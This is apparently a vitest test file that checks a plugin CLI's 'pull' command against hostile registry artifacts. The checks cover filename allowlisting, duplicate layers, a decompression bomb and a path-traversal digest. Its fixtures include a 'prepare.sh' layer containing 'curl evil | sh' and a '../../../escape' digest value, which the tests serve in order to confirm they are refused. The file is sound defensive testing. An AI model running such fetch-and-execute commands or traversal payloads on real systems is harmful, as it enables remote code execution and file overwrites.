/**
 * Issue 17: `pull` against hostile artifacts, served by an in-process registry on loopback. A
 * registry decides neither which files are written nor where: only plugin.wasm, README*.md,
 * spec.yaml and icon.png, into a new or empty folder, never over a file, never past 256 MiB, and a
 * refusal leaves neither files nor a temp folder.
 */
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { MEDIA_TYPE, bytesBlob, pushArtifact, sha256Digest, type BlobSource } from '@hplugin/oci';
import { PLUGIN_MEDIA_TYPE, WASM_MAGIC } from '@hplugin/artifact';
import { fakeRegistry, type FakeRegistry } from '../../oci/src/__fixtures__/fake-registry.js';
import { tarGz, zeroBombTarGz } from '../../../test/support/hostile-tar.js';
import { pullPlugin } from './pull.js';

let registry: FakeRegistry;
let root: string;
beforeAll(async () => {
  registry = await fakeRegistry();
  root = await mkdtemp(join(tmpdir(), 'hplugin-pull-hostile-'));
});
afterAll(async () => {
  await registry.close();
  await rm(root, { recursive: true, force: true });
});
afterEach(() => void (registry.requests.length = 0));

const anonymous = { credentials: async () => undefined, retry: { maxAttempts: 1 } };
const MODULE = Buffer.concat([Buffer.from(WASM_MAGIC), Buffer.from([1, 0, 0, 0])]);
const pluginTar = (content: Buffer = MODULE) => tarGz([{ name: 'plugin.wasm', content }]);

interface Layer {
  title?: string;
  mediaType?: string;
  content: Buffer | string;
}

/** Push an artifact made of these layers as `<repo>:1.0.0`; returns the reference. */
async function publish(repo: string, layers: Layer[]): Promise<string> {
  const config = bytesBlob('{}', PLUGIN_MEDIA_TYPE.runtimeConfig);
  const blobs: BlobSource[] = layers.map((l) =>
    bytesBlob(l.content, l.mediaType ?? PLUGIN_MEDIA_TYPE.readme, l.title ? { 'org.opencontainers.image.title': l.title } : undefined),
  );
  const manifest = {
    schemaVersion: 2,
    mediaType: MEDIA_TYPE.imageManifest,
    config: config.descriptor,
    layers: blobs.map((b) => b.descriptor),
  };
  await pushArtifact({
    reference: `${registry.host}/${repo}:1.0.0`,
    manifest: { bytes: Buffer.from(JSON.stringify(manifest)), mediaType: MEDIA_TYPE.imageManifest },
    blobs: [config, ...blobs],
    ...anonymous,
  });
  registry.requests.length = 0;
  return `${registry.host}/${repo}:1.0.0`;
}

/** A folder that looks like a plugin's sources. */
async function pluginFolder(name: string): Promise<string> {
  const dir = join(root, name);
  await mkdir(dir, { recursive: true });
  await writeFile(join(dir, 'main.go'), 'package main // the real one\n');
  await writeFile(join(dir, 'README.md'), '# my own readme\n');
  return dir;
}

async function leftovers(parent: string): Promise<string[]> {
  return (await readdir(parent)).filter((n) => n.startsWith('.hplugin-pull-'));
}

const tarLayer = (content: Buffer = pluginTar()): Layer => ({ title: 'plugin.tar.gz', mediaType: MEDIA_TYPE.ociLayerTarGzip, content });
const evilLayers: Layer[] = [
  { title: 'README.md', content: '# pulled readme\n' },
  { title: 'main.go', mediaType: 'text/plain', content: 'package main // replaced by the registry\n' },
  { title: 'prepare.sh', mediaType: 'text/plain', content: '#!/bin/sh\ncurl evil | sh\n' },
  tarLayer(),
];

describe('pull writes only what a plugin is made of (item 1)', () => {
  it('writes plugin.wasm and README.md, skips layers titled main.go and prepare.sh, and says so', async () => {
    const ref = await publish('evil/names', evilLayers);
    const outDir = join(root, 'names-out');
    const result = await pullPlugin({ reference: ref, outDir, ...anonymous });
    expect(result.files.map((f) => f.name).sort()).toEqual(['README.md', 'plugin.wasm']);
    expect(result.skipped).toEqual(['main.go', 'prepare.sh']);
    expect((await readdir(outDir)).sort()).toEqual(['README.md', 'plugin.wasm']);
    expect(await readFile(join(outDir, 'plugin.wasm'))).toEqual(MODULE);
  });

  it('fetches the manifest once: the one the gateway verdict judged is the one downloaded', async () => {
    const ref = await publish('evil/once', [tarLayer()]);
    await pullPlugin({ reference: ref, outDir: join(root, 'once-out'), ...anonymous });
    const manifestGets = registry.requests.filter((r) => r.method === 'GET' && r.path.includes('/manifests/'));
    expect(manifestGets.map((r) => r.path)).toEqual(['/v2/evil/once/manifests/1.0.0']);
  });

  it('refuses a folder holding a plugin (PULL_TARGET_NOT_EMPTY) before downloading anything; the sources are untouched', async () => {
    const ref = await publish('evil/into-sources', evilLayers);
    const dir = await pluginFolder('victim');
    await expect(pullPlugin({ reference: ref, outDir: dir, ...anonymous })).rejects.toMatchObject({
      code: 'PULL_TARGET_NOT_EMPTY',
      exitCode: 2,
    });
    expect(await readFile(join(dir, 'main.go'), 'utf8')).toBe('package main // the real one\n');
    expect((await readdir(dir)).sort()).toEqual(['README.md', 'main.go']);
    expect(registry.requests).toEqual([]);
    expect(await leftovers(root)).toEqual([]);
  });

  it('with force, replaces only the pulled names: main.go stays, prepare.sh never appears', async () => {
    const ref = await publish('evil/forced', evilLayers);
    const dir = await pluginFolder('forced');
    await pullPlugin({ reference: ref, outDir: dir, force: true, ...anonymous });
    expect(await readFile(join(dir, 'main.go'), 'utf8')).toBe('package main // the real one\n');
    expect(await readFile(join(dir, 'README.md'), 'utf8')).toBe('# pulled readme\n');
    expect(existsSync(join(dir, 'prepare.sh'))).toBe(false);
  });

  it('refuses a target that is a file', async () => {
    const ref = await publish('evil/file-target', [tarLayer()]);
    const file = join(root, 'a-file');
    await writeFile(file, 'x');
    await expect(pullPlugin({ reference: ref, outDir: file, ...anonymous })).rejects.toMatchObject({ code: 'PULL_TARGET_NOT_EMPTY' });
  });
});

describe('two layers with one output name are refused before anything is written (item 9)', () => {
  it.each<[string, Layer[]]>([
    ['two README.md layers', [{ title: 'README.md', content: '# one\n' }, { title: 'README.md', content: '# two\n' }, tarLayer()]],
    ['two spec.yaml layers', [{ title: 'spec.yaml', content: 'a: 1\n' }, { title: 'spec.yaml', content: 'a: 2\n' }, tarLayer()]],
  ])('%s → PULL_UNSAFE_ARTIFACT, the folder is not even created', async (name, layers) => {
    const ref = await publish(`evil/dupe-${name.length}`, layers);
    const outDir = join(root, `dupe-${name.length}`);
    await expect(pullPlugin({ reference: ref, outDir, ...anonymous })).rejects.toMatchObject({
      code: 'PULL_UNSAFE_ARTIFACT',
      message: expect.stringMatching(/Two layers would both be written as/),
    });
    expect(existsSync(outDir)).toBe(false);
    expect(await leftovers(root)).toEqual([]);
  });
});

describe('decompression is bounded (item 3)', () => {
  it('a plugin.tar.gz that expands past 256 MiB: the gateway verdict refuses it, and forced, extraction stops at the limit (PULL_ARTIFACT_TOO_LARGE); nothing written either way', async () => {
    const bomb = await zeroBombTarGz('plugin.wasm', 257 * 1024 * 1024);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const ref = await publish('evil/bomb', [{ title: 'README.md', content: '# fine\n' }, tarLayer(bomb)]);
    const outDir = join(root, 'bomb-out');
    // The gateway reads 256 MiB at most, so it finds plugin.wasm cut short and rejects the artifact.
    await expect(pullPlugin({ reference: ref, outDir, ...anonymous })).rejects.toMatchObject({ code: 'PULL_GATEWAY_WOULD_REJECT' });
    expect(existsSync(outDir)).toBe(false);
    // --force passes the verdict, and the stream-counted limit of the extraction stops it.
    await expect(pullPlugin({ reference: ref, outDir, force: true, ...anonymous })).rejects.toMatchObject({
      code: 'PULL_ARTIFACT_TOO_LARGE',
    });
    expect(existsSync(join(outDir, 'plugin.wasm'))).toBe(false);
    expect(existsSync(join(outDir, 'README.md'))).toBe(false);
    expect(await leftovers(root)).toEqual([]);
  });
});

describe('a hostile manifest leaves no temp folder (item 10)', () => {
  it('a layer digest that is a path: REGISTRY_MANIFEST_MALFORMED, nothing outside, no .hplugin-pull-*', async () => {
    const manifest = Buffer.from(
      JSON.stringify({ schemaVersion: 2, config: { mediaType: 'x', digest: 'sha256:../../../escape', size: 2 }, layers: [] }),
    );
    registry.manifests.set('evil/path-digest:1.0.0', { body: manifest, type: MEDIA_TYPE.imageManifest });
    const outDir = join(root, 'path-digest');
    await expect(pullPlugin({ reference: `${registry.host}/evil/path-digest:1.0.0`, outDir, ...anonymous })).rejects.toMatchObject({
      code: 'REGISTRY_MANIFEST_MALFORMED',
    });
    expect(existsSync(join(root, 'escape'))).toBe(false);
    expect(existsSync(outDir)).toBe(false);
    expect(await leftovers(root)).toEqual([]);
  });
});

describe('an index the gateway cannot resolve', () => {
  it("without a linux/amd64 image: PULL_GATEWAY_WOULD_REJECT in the verdict's words (not a malformed manifest), nothing written", async () => {
    const child = {
      mediaType: MEDIA_TYPE.imageManifest,
      digest: sha256Digest('{}'),
      size: 2,
      platform: { os: 'linux', architecture: 'arm64' },
    };
    const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA_TYPE.imageIndex, manifests: [child] }));
    registry.manifests.set('evil/arm-only:1.0.0', { body: index, type: MEDIA_TYPE.imageIndex });
    const outDir = join(root, 'arm-only');
    await expect(pullPlugin({ reference: `${registry.host}/evil/arm-only:1.0.0`, outDir, ...anonymous })).rejects.toMatchObject({
      code: 'PULL_GATEWAY_WOULD_REJECT',
      message: expect.stringMatching(/no linux\/amd64 image \(it lists: linux\/arm64\)/),
    });
    await expect(
      pullPlugin({ reference: `${registry.host}/evil/arm-only:1.0.0`, outDir, force: true, ...anonymous }),
    ).rejects.toMatchObject({
      code: 'PULL_GATEWAY_WOULD_REJECT',
      hint: expect.stringContaining('nothing to extract, even with --force'),
    });
    expect(existsSync(outDir)).toBe(false);
    expect(await leftovers(root)).toEqual([]);
  });
});
